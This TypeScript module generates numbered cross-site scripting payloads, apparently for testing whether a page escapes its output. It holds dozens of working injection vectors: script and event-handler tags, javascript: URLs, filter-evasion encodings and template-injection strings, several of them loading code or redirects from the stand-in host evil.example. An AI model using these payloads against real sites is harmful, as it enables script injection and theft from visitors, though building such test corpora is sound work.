/** A count in, that many texts out that would run in a page which shows them unescaped; each says its own number. */

type Make = (mark: string) => string

const EVENTS = [
  'onload',
  'onerror',
  'onclick',
  'onfocus',
  'onmouseover',
  'ontoggle',
  'onanimationend',
  'onpointerenter',
]
const TAGS = [
  'img src=x',
  'svg',
  'body',
  'details open',
  'input autofocus',
  'video src=x',
  'iframe',
  'marquee',
  'math',
  'a href=x',
]

const IN_TAGS: readonly Make[] = TAGS.flatMap((tag) =>
  EVENTS.map(
    (event): Make =>
      (mark) =>
        `<${tag} ${event}=alert(${mark})>`,
  ),
)
const BY_HAND: readonly Make[] = [
  (mark) => `<script>alert(${mark})</script>`,
  (mark) => `<ScRiPt>alert(${mark})</ScRiPt>`,
  (mark) => `<script src=//evil.example/${mark}></script>`,
  (mark) => `<script\n>alert(${mark})</script\t>`,
  (mark) => `<scr<script>ipt>alert(${mark})</scr</script>ipt>`,
  (mark) => `</title><script>alert(${mark})</script>`,
  (mark) => `</p></blockquote></main><script>alert(${mark})</script>`,
  (mark) => `--><script>alert(${mark})</script><!--`,
  (mark) => `]]><script>alert(${mark})</script>`,
  (mark) => `" onmouseover="alert(${mark})`,
  (mark) => `' onmouseover='alert(${mark})`,
  (mark) => `"><img src=x onerror=alert(${mark})>`,
  (mark) => `'><img src=x onerror=alert(${mark})>`,
  (mark) => `" autofocus onfocus="alert(${mark})" x="`,
  (mark) => `\u0060\u0060onerror=alert(${mark})`,
  (mark) => `<svg><script>alert(${mark})</script></svg>`,
  (mark) => `<svg><animate onbegin=alert(${mark}) attributeName=x dur=1s>`,
  (mark) => `<svg><use href="data:image/svg+xml,<svg id=x onload=alert(${mark})>#x"/></svg>`,
  (mark) => `<svg><foreignObject><body onload=alert(${mark})></foreignObject></svg>`,
  (mark) => `<math><mtext><table><mglyph><style><img src=x onerror=alert(${mark})>`,
  (mark) => `<a href="javascript:alert(${mark})">x</a>`,
  (mark) => `javascript:alert(${mark})`,
  (mark) => ` javascript:alert(${mark})`,
  (mark) => `JaVaScRiPt:alert(${mark})`,
  (mark) => `java\tscript:alert(${mark})`,
  (mark) => `javascript:/*https://example.org/*/alert(${mark})`,
  (mark) => `data:text/html,<script>alert(${mark})</script>`,
  (mark) => `vbscript:msgbox(${mark})`,
  (mark) => `https://example.org/"onmouseover="alert(${mark})`,
  (mark) => `https://example.org/'><script>alert(${mark})</script>`,
  (mark) => `//evil.example/${mark}`,
  (mark) => `<iframe src="javascript:alert(${mark})"></iframe>`,
  (mark) => `<iframe srcdoc="<script>alert(${mark})</script>"></iframe>`,
  (mark) => `<object data="javascript:alert(${mark})"></object>`,
  (mark) => `<embed src="//evil.example/${mark}.swf">`,
  (mark) => `<base href="//evil.example/${mark}/">`,
  (mark) => `<meta http-equiv="refresh" content="0;url=//evil.example/${mark}">`,
  (mark) => `<link rel=stylesheet href=//evil.example/${mark}.css>`,
  (mark) => `<style>@import url(//evil.example/${mark})</style>`,
  (mark) => `<div style="background:url(//evil.example/${mark})">x</div>`,
  (mark) => `<form action="//evil.example/${mark}"><button>x</button></form>`,
  (mark) => `<noscript><p title="</noscript><img src=x onerror=alert(${mark})>">`,
  (mark) => `<template><script>alert(${mark})</script></template>`,
  (mark) => `<textarea></textarea><script>alert(${mark})</script>`,
  (mark) => `\${alert(${mark})}`,
  (mark) => `{{constructor.constructor('alert(${mark})')()}}`,
  (mark) => `<%= alert(${mark}) %>`,
  (mark) => `#{alert(${mark})}`,
  (mark) => `[x](javascript:alert(${mark}))`,
  (mark) => `![x](x" onerror="alert(${mark}))`,
  (mark) => `<javascript:alert(${mark})>`,
  (mark) => `\uff1cscript\uff1ealert(${mark})\uff1c/script\uff1e`,
  (mark) => `\u02bcscript\u02bcalert(${mark})`,
  (mark) => `<script>alert(${mark})</script>\u202e`,
  (mark) => `<\u200bscript>alert(${mark})</script>`,
  (mark) => `<img src=x onerror\u000c=alert(${mark})>`,
  (mark) => `<img/src=x/onerror=alert(${mark})//`,
  (mark) => `&lt;script&gt;alert(${mark})&lt;/script&gt;`,
  (mark) => `&#60;img src=x onerror=alert(${mark})&#62;`,
  (mark) => `\\u003cscript\\u003ealert(${mark})\\u003c/script\\u003e`,
  (mark) => `%3Cscript%3Ealert(${mark})%3C/script%3E`,
  (mark) => `+adw-script+ad4-alert(${mark})+adw-/script+ad4-`,
]
const KINDS = [...BY_HAND, ...IN_TAGS]
/** What may stand around it in a page. */
const AROUND: readonly (readonly [string, string])[] = [
  ['', ''],
  ['">', ''],
  ["'/>", '<!--'],
]

export type Payload = { readonly mark: string; readonly text: string }

export const payloads = (count: number): readonly Payload[] =>
  Array.from({ length: count }, (_, index): Payload => {
    const mark = String(70_000 + index)
    const [before, after] = AROUND[Math.floor(index / KINDS.length) % AROUND.length] ?? ['', '']
    return { mark, text: `${before}${(KINDS[index % KINDS.length] ?? String)(mark)}${after}` }
  })
